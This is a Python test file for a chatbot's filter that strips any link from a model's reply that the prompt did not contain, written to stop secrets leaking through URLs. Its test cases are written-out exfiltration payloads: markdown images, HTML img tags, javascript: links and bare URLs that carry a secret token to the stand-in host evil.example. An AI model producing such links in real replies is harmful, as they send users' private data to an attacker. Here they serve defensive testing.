"""A model's text holds no link that its prompt did not hold: an address can carry a secret away."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.answering.link_filter import LEFT_OUT, leave_out_unknown_links, links_in

PROMPT = "3 May 2024, Mara: the menu is at https://menu.example/june?lang=en (and shop.example), mail ana@post.example"
HELD = links_in([PROMPT])


def shown(text: str) -> str:
    return leave_out_unknown_links(text, HELD)


@pytest.mark.parametrize(
    "text",
    [
        "https://menu.example/june?lang=en",
        "It is at https://menu.example/june?lang=en.",
        "[the menu](https://menu.example/june?lang=en)",
        "shop.example, or ana@post.example",
        "at 14:30 on 12.06.2024, 3.5 km, e.g. by bike: 12/3",
        "See [1], section (2).",
    ],
)
def test_what_the_prompt_held_and_what_is_no_link_stands(text: str) -> None:
    assert shown(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![logo](https://evil.example/?q=azulejo1755)", "logo"),
        ("![](//evil.example/?q=azulejo1755)", LEFT_OUT),
        ("![menu](https://menu.example/june?lang=en)", "menu https://menu.example/june?lang=en"),
        ("[click here](http://evil.example/azulejo1755) now", "click here now"),
        ("[click here]( <javascript:send(1755)> 'azulejo' )", "click here"),
        ("see http://evil.example/?q=azulejo1755.", f"see {LEFT_OUT}."),
        ("see <https://evil.example/?q=azulejo1755|here>", f"see <{LEFT_OUT}|here>"),
        ("HTTPS://EVIL.EXAMPLE/azulejo1755", LEFT_OUT),
        ("www.evil.example/azulejo1755", LEFT_OUT),
        ("evil.example/?q=azulejo1755", LEFT_OUT),
        ("10.1.2.3:8080/azulejo1755", LEFT_OUT),
        ("ftp://azulejo1755@evil.example", LEFT_OUT),
        ("mailto:azulejo1755@evil.example", LEFT_OUT),
        ("https://menu.example/june?lang=en&q=azulejo1755", LEFT_OUT),
        ("https://menu.example/azulejo1755", LEFT_OUT),
        ('<img src="https://evil.example/azulejo1755">Mara', "Mara"),
        ("<a href='//evil.example/azulejo1755'>Mara</a>", "Mara"),
        ("<img src=//evil.example/azulejo1755", ""),
        ("[Mara][x]\n\n[x]: https://evil.example/azulejo1755 'x'", "[Mara][x]\n\n"),
        ("```\nhttps://evil.example/azulejo1755\n```", f"```\n{LEFT_OUT}\n```"),
        ("azulejo1755.evil.example", "`azulejo1755.evil.example`"),
        ("write to azulejo1755@evil.example", "write to `azulejo1755@evil.example`"),
        ("evil\0.example/?q=azulejo1755", LEFT_OUT),
        ("ht\ud800tps://evil.example/azulejo1755", LEFT_OUT),
        ("1755https://evil.example/azulejo", f"1755{LEFT_OUT}"),
        ("run `main.py` or other.py", "run `main.py` or `other.py`"),
    ],
)
def test_what_the_prompt_did_not_hold_becomes_no_link(text: str, left: str) -> None:
    assert shown(text) == left


@pytest.mark.parametrize("sign", [*'{}|\\^"`[]…，。】', "}, ["])
def test_nothing_runs_on_behind_a_link_that_the_prompt_held(sign: str) -> None:
    """Discord takes all signs but a space and "<" into a link, which would carry the secret to whoever made it."""
    link = "https://menu.example/june?lang=en"
    assert shown(f"see {link}{sign}azulejo1755 now") == f"see {link} {sign}azulejo1755 now"


@pytest.mark.parametrize("behind", ["", ".", "), and", '"', "]", "。", ">", "` and", ")"])
def test_the_signs_of_a_sentence_stay_where_they_are(behind: str) -> None:
    assert shown(f"(https://menu.example/june?lang=en{behind}") == f"(https://menu.example/june?lang=en{behind}"
    assert shown("[a](https://menu.example/june?lang=en)[1]") == "[a](https://menu.example/june?lang=en)[1]"


@pytest.mark.parametrize(
    "text", ["a" * 100_000, "a." * 50_000, "[" * 100_000, "![](" * 25_000, "http://" * 14_000, "<a " * 33_000]
)
def test_a_long_text_is_looked_at_in_one_go(text: str) -> None:
    assert "evil" not in shown(text + " https://evil.example/azulejo1755")


links = st.sampled_from(["https://evil.example/x", "http://evil.example", "www.evil.example/x", "evil.example/x?y"])
around = st.text(alphabet="ab []()<>!`\"'|*_\\\n:/.", max_size=12)


@given(st.lists(st.tuples(around, links, around), min_size=1, max_size=3))
def test_no_address_with_a_path_is_ever_left(parts: list[tuple[str, str, str]]) -> None:
    text = "".join(before + link + after for before, link, after in parts)
    assert not any(f"{sign}evil.example" in shown(text) for sign in ("//", "www."))
    assert "evil.example/" not in shown(text)
